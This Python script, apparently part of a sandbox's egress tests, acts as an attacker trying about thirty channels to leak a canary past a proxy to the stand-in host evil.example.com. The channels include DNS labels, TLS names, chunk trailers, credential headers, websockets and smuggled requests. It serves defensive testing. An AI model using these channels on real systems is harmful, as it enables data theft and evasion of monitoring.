"""Code of an attacker, run inside a box: it tries every way out with what it was told to carry.

Told by a JSON file; prints, as its last line, how each way ended. Nothing here is imported by tests.
"""

import base64
import json
import socket
import ssl
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

TOLD = json.loads(Path(sys.argv[1]).read_text())
CANARY: str = TOLD["canary"]
PORT: int = TOLD["port"]
SINK: int = TOLD["sink"]
DOOR = ("127.0.0.1", 3128)
SECONDS = 60
ALLOWED, POSTED, INDEX, UNREAD, EVIL = (
    f"{name}.example.com" for name in ("api", "post", "index", "unread", "evil")
)


def first_line(connection: socket.socket) -> str:
    """The first line of what comes back."""
    answer = b""
    while b"\n" not in answer and (data := connection.recv(4096)):
        answer += data
    return answer.split(b"\r\n")[0].decode("latin-1")


def connected(host: str, port: int) -> socket.socket:
    """A tunnel to that host, as the door grants it."""
    connection = socket.create_connection(DOOR, SECONDS)
    connection.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    answer = b""
    while not answer.endswith(b"\r\n\r\n") and (data := connection.recv(1)):
        answer += data
    if not answer.startswith(b"HTTP/1.1 200"):
        raise ConnectionRefusedError(answer.split(b"\r\n")[0].decode())
    return connection


def inside(host: str, payload: str, name: str | None = None, more: bytes = b"") -> str:
    """The first line of the answer to that payload, inside TLS to that host; TLS asks for the name."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with connected(host, PORT) as raw, context.wrap_socket(raw, server_hostname=name or host) as tls:
        tls.sendall(payload.encode("latin-1"))
        line = first_line(tls)
        if more:
            tls.sendall(more)
            tls.recv(4096)
        return line


def request(line: str, host: str, *headers: str, body: str = "") -> str:
    """A request as text."""
    return "\r\n".join([f"{line} HTTP/1.1", f"Host: {host}:{PORT}", *headers, "", body])


def get(host: str, path: str, *headers: str) -> str:
    """The answer to a GET by https."""
    return inside(host, request(f"GET {path}", host, *headers))


def post(host: str, path: str, body: str) -> str:
    """The answer to a POST by https."""
    return inside(host, request(f"POST {path}", host, f"Content-Length: {len(body)}", body=body))


def straight(kind: int) -> str:
    """Straight to every address of the machine outside, without the door."""
    for address in TOLD["addresses"]:
        try:
            with socket.socket(socket.AF_INET, kind) as connection:
                connection.settimeout(1)
                connection.connect((address, SINK))
                connection.sendall(CANARY.encode())
        except OSError as error:
            last = error
    return type(last).__name__


def by_name_service() -> str:
    """In the labels of a name, by whatever name service there is."""
    label = CANARY.encode().hex()[:60]
    query = b"\1\2\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label.encode() + b"\7example\3com\0\0\1\0\1"
    for address in TOLD["addresses"]:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            try:
                connection.sendto(query, (address, SINK))
            except OSError:
                continue
    socket.getaddrinfo(f"{label}.{EVIL}", 443)
    return "resolved"


def after_a_redirect() -> str:
    """Where an allowed host sends the client on to, with the canary added."""
    first = get(ALLOWED, "/redirect")
    return first + " then " + get(EVIL, f"/?d={CANARY}")


def in_chunks() -> str:
    """In what only frames a body that may be sent: chunk extensions and trailers."""
    body = f"5;{CANARY}={CANARY}\r\nhello\r\n0;{CANARY}\r\nX-Trailer: {CANARY}\r\n\r\n"
    headers = ("Transfer-Encoding: chunked", f"Trailer: {CANARY}")
    return inside(POSTED, request("POST /in", POSTED, *headers, body=body))


def unread(name: str) -> str:
    """Through a tunnel that is not read, to another name than its rule's."""
    return inside(UNREAD, request(f"GET /?d={CANARY}", UNREAD), name)


def unread_in_the_clear() -> str:
    """Through a tunnel that is not read, without TLS."""
    with connected(UNREAD, PORT) as raw:
        raw.sendall(CANARY.encode() * 10)
        return first_line(raw)


def to_an_address(address: str) -> str:
    """By the address in place of the name."""
    with connected(address, SINK) as raw:
        raw.sendall(CANARY.encode())
        return first_line(raw)


BASIC = base64.b64encode(f"thief:{CANARY}".encode()).decode()
UPGRADE = (
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: eA==",
)
CREDENTIALS = (
    f"Authorization: Bearer {CANARY}", f"Authorization: Basic {BASIC}", f"Cookie: d={CANARY}",
    f"X-Api-Key: {CANARY}", f"Private-Token: {CANARY}", f"Proxy-Authorization: Basic {BASIC}",
    f"X-Auth-Token: {CANARY}", f"X-HTTP-Method-Override: {CANARY}",
)  # fmt: skip

# What needs a person's yes once strangers were read comes first.
WAYS: dict[str, Callable[[], str]] = {
    "a tunnel with another name": lambda: unread(EVIL),
    "a tunnel with the canary as its name": lambda: unread(f"{CANARY.lower()}.{EVIL}"),
    "a tunnel without TLS": unread_in_the_clear,
    "chunk extensions and trailers": in_chunks,
    "an allowed request": lambda: get(ALLOWED, "/fine"),
    "straight by TCP": lambda: straight(socket.SOCK_STREAM),
    "straight by UDP": lambda: straight(socket.SOCK_DGRAM),
    "name service": by_name_service,
    "a host without a rule": lambda: get(EVIL, f"/?d={CANARY}"),
    "a body for a host without a rule": lambda: post(EVIL, "/", CANARY),
    "labels of a name": lambda: get(f"{CANARY.lower()}.{EVIL}", "/"),
    "a body where only reading is allowed": lambda: post(ALLOWED, "/", CANARY),
    "a body that reading has": lambda: inside(
        ALLOWED, request("GET /", ALLOWED, f"Content-Length: {len(CANARY)}", body=CANARY)
    ),
    "a long query to a package index": lambda: get(INDEX, f"/simple/?{CANARY * 80}"),
    "long headers to a package index": lambda: get(INDEX, "/simple/", f"X-Note: {CANARY * 200}"),
    **{f"a credential of its own: {each.split()[0]}": partial(get, ALLOWED, "/", each)
       for each in CREDENTIALS},
    "a header that Connection names": lambda: get(ALLOWED, "/", "Connection: x-note", f"X-Note: {CANARY}"),
    "TRACE": lambda: inside(ALLOWED, request("TRACE /", ALLOWED, f"X-Note: {CANARY}")),
    "another repository": lambda: get(EVIL, f"/{CANARY}.git/info/refs?service=git-receive-pack"),
    "a redirect": after_a_redirect,
    "an address": lambda: to_an_address(TOLD["addresses"][0]),
    "a socket for the web": lambda: inside(
        ALLOWED, request("GET /", ALLOWED, *UPGRADE), more=b"\x81\x1f" + CANARY.encode()
    ),
    "a name in TLS": lambda: inside(ALLOWED, request("GET /", ALLOWED), f"{CANARY.lower()}.{EVIL}"),
    "a request behind a refused one": lambda: inside(
        ALLOWED, request("GET /x", EVIL) + request(f"GET /?d={CANARY}", EVIL)
    ),
}  # fmt: skip

if __name__ == "__main__":
    outcomes = {}
    for way, tried in WAYS.items():
        try:
            outcomes[way] = tried()
        except OSError as error:
            outcomes[way] = f"{type(error).__name__}: {error}"
    sys.stdout.write(json.dumps(outcomes))
